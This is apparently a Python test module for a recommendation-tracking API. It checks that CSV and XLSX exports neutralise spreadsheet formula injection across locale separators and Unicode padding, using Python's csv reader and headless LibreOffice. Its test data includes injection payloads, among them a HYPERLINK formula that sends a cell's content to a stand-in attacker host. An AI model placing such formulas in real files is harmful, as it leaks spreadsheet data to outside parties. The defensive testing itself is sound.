"""Issue 14, "Spreadsheets that never run code": hostile text written through the API reaches the
CSV and XLSX exports of the recommendations and the implementation matrix, and no spreadsheet engine
makes a formula of it — whichever separator its locale reads a CSV with (`;` in sl-SI or hr-HR).

The second test opens the exports in LibreOffice itself (headless, Debian's libreoffice-calc-nogui;
`.ci/run` installs it), so it is slow (tests/conftest.py SLOW_TESTS) and fails when soffice is missing.
"""

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from api.auth.models import OrganisationKind
from api.core.spreadsheets import FORMULA_STARTS
from api.recommendations.export import CSV_TYPE, XLSX_TYPE
from tests.factories import OTHER_STATE, OWN_STATE, create_organisation
from tests.tracking_factories import create_assessment

ACTION_TITLE = "Budget;=2+3;@SUM(9)"  # the audit's example: a government writes action titles
SECOND_TITLE = '=HYPERLINK("https://evil.example/?"&D5;"rating")'  # a cell of its own after the "; " join
INDICATOR = "Roma children,+1+1\t-2+3, =4+5"
RECOMMENDATION = 'Adopt the plan; =1+2\n@SUM(4;5)\r\n-3+4,"=5+6"'
GUARDED = "Adopt the plan;' =1+2\n'@SUM(4;5)\r\n'-3+4,'\"=5+6\""  # its CSV cell
ORGANISATION = "Roma defenders;=7+8"  # a column header of the matrix CSV
HOSTILE = (ACTION_TITLE, SECOND_TITLE, INDICATOR, RECOMMENDATION)
SEPARATORS = {",": 44, ";": 59, "\t": 9}  # LibreOffice's filter options name them by code point
INSTALL = "apt-get install -y --no-install-recommends libreoffice-calc-nogui"


async def _exports(client, world, session, settings) -> dict[str, bytes]:
    """The four exports (recommendations and matrix, CSV and XLSX) as the state's NHRI sees them, after
    the admin (a recommendation) and the government (two actions, an indicator) wrote hostile text
    through the API, and a CSO with a hostile name assessed."""
    government, admin = world.headers("government", settings), world.headers("admin", settings)
    created = await client.post(
        "/recommendations",
        headers=admin,
        json={
            "review_id": world.cycle.reviews[OWN_STATE].id,
            "text": RECOMMENDATION,
            "recommending_states": [OTHER_STATE],
            "themes": [world.cycle.theme.id],
        },
    )
    assert created.status_code == 201, created.text
    recommendation = created.json()["id"]
    action_ids = []
    for title in (ACTION_TITLE, SECOND_TITLE):
        response = await client.post(
            "/tracking/actions",
            headers=government,
            json={
                "state_code": OWN_STATE.lower(),
                "title": title,
                "responsible_organisation_id": world.org("government").id,
                "status": "in_progress",
                "recommendations": [recommendation],
            },
        )
        assert response.status_code == 201, response.text
        action_ids.append(response.json()["id"])
    response = await client.post(
        "/tracking/indicators", headers=government, json={"action_id": action_ids[0], "name": INDICATOR}
    )
    assert response.status_code == 201, response.text
    cso = create_organisation(session, OrganisationKind.cso, OWN_STATE, name=ORGANISATION)
    create_assessment(session, cso, world.cycle.recommendations[OWN_STATE])
    exports = {}
    nhri = world.headers("nhri", settings)
    for name, path, params in (
        ("recommendations", "/recommendations", {"state_under_review": OWN_STATE}),
        ("matrix", "/tracking/matrix", {"state": OWN_STATE, "cycle": 3}),
    ):
        for extension, media_type in (("csv", CSV_TYPE), ("xlsx", XLSX_TYPE)):
            response = await client.get(path, params=params, headers={**nhri, "Accept": media_type})
            assert response.status_code == 200, response.text
            exports[f"{name}.{extension}"] = response.content
    return exports


def _unguarded(cell: str) -> str:
    """The text without the guard's `'` (no hostile text here holds one)."""
    return cell.replace("'", "")


def _lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _formula_like(value: str) -> bool:
    """What a spreadsheet may read as a formula: a formula character first, after spaces or quotes."""
    return value.lstrip(' "').startswith(FORMULA_STARTS)


async def test_a_separator_inside_a_cell_never_starts_a_formula_in_any_locale(
    client, tracking_world, session, settings
):
    """Python's csv reader, with each locale's separator, stands in for a spreadsheet's CSV import."""
    exports = await _exports(client, tracking_world, session, settings)
    for name in ("recommendations.csv", "matrix.csv"):
        text = exports[name].decode("utf-8-sig")
        for separator in SEPARATORS:
            cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
            assert not [c for c in cells if _formula_like(c)], (name, repr(separator))
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        for hostile in (*HOSTILE, ORGANISATION) if name == "matrix.csv" else (RECOMMENDATION,):
            assert any(hostile in _unguarded(cell) for cell in cells), (name, hostile)
        assert '"' + GUARDED.replace('"', '""') + '"' in text  # quoted, as every text cell


def _soffice(tmp_path: Path, sources: list[Path], filter_options: str | None) -> list[Path]:
    """`sources` converted to XLSX by one LibreOffice run, its CSV import set by `filter_options`."""
    out = tmp_path / f"out-{len(list(tmp_path.glob('out-*')))}"
    command = [
        "soffice",
        f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",  # never the user's profile or instance
        "--headless",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(out),
        *([f"--infilter=CSV:{filter_options}"] if filter_options else []),
        *map(str, sources),
    ]
    done = subprocess.run(command, capture_output=True, text=True, timeout=180)
    converted = [out / (source.stem + ".xlsx") for source in sources]
    assert done.returncode == 0 and all(p.exists() for p in converted), done.stdout + done.stderr
    return converted


def _cells(path: Path) -> list:
    return [cell for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for cell in row]


def _formulas_in_xml(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    return [m for sheet in sheets for m in re.findall(r"<f[ >].*?</f>", sheet)]


async def test_libreoffice_opens_every_export_without_a_formula(client, tracking_world, session, settings, tmp_path):
    assert shutil.which("soffice"), f"LibreOffice (soffice) is missing: {INSTALL}"
    exports = await _exports(client, tracking_world, session, settings)
    for name, content in exports.items():
        (tmp_path / name).write_bytes(content)
    # field separator, text delimiter ", UTF-8, from line 1, column formats, language, quoted fields
    # as text, detect special numbers, (export options), trim spaces, (export), evaluate formulas
    variants = [f"{code},34,76,1,,0,false,true,false,false,true,-1,true" for code in SEPARATORS.values()]
    variants.append("59,34,76,1")  # `;` with LibreOffice's defaults otherwise
    for options in variants:
        csvs = [tmp_path / "recommendations.csv", tmp_path / "matrix.csv"]
        for source, converted in zip(csvs, _soffice(tmp_path, csvs, options), strict=True):
            name, cells = source.name, _cells(converted)
            formulas = [c.value for c in cells if c.data_type == "f" or str(c.value or "").startswith("=")]
            assert not formulas and not _formulas_in_xml(converted), (name, options, formulas)
            if options.startswith("44,"):  # read as written: the hostile text is there, as text
                texts = [c.value for c in cells if isinstance(c.value, str)]
                for hostile in HOSTILE if name == "matrix.csv" else (RECOMMENDATION,):
                    assert any(_lines(hostile) in _lines(_unguarded(t)) for t in texts), (name, hostile)
    xlsxs = [tmp_path / "recommendations.xlsx", tmp_path / "matrix.xlsx"]
    for source, converted in zip(xlsxs, _soffice(tmp_path, xlsxs, None), strict=True):
        name = source.name
        assert not _formulas_in_xml(converted), name
        cells = _cells(converted)
        assert not [c.value for c in cells if c.data_type == "f"], name
        texts = [_lines(c.value) for c in cells if isinstance(c.value, str)]
        for hostile in HOSTILE if name == "matrix.xlsx" else (RECOMMENDATION,):
            assert any(_lines(hostile) in t for t in texts), (name, hostile)  # exactly as written, no `'`


UNICODE_PADDED = ["a;\u00a0=1+1", "a;\u3000=1+1", "a,\u2003@SUM(1)", "a;\u200b=1+1", "\ufeff=1+1", "a;\u200d\u00a0 +1"]
_PADDING = "".join(chr(c) for c in range(0x110000) if chr(c).isspace()) + '"\u200b\u200c\u200d\u2060\u180e\ufeff'


def test_unicode_spaces_and_zero_width_characters_are_padding_too():
    """Review of 3ec5255: only ASCII spaces counted as padding, so `a;\\u00a0=1+1` and `a;\\u3000=1+1`
    were written unchanged, and a program that trims any space makes a formula of them."""
    from api.core.spreadsheets import csv_writer

    stream = io.StringIO()
    csv_writer(stream).writerows([[text] for text in UNICODE_PADDED])
    for separator in SEPARATORS:
        for row in csv.reader(io.StringIO(stream.getvalue()), delimiter=separator):
            for cell in row:
                assert not cell.lstrip(_PADDING).startswith(FORMULA_STARTS), (separator, cell)
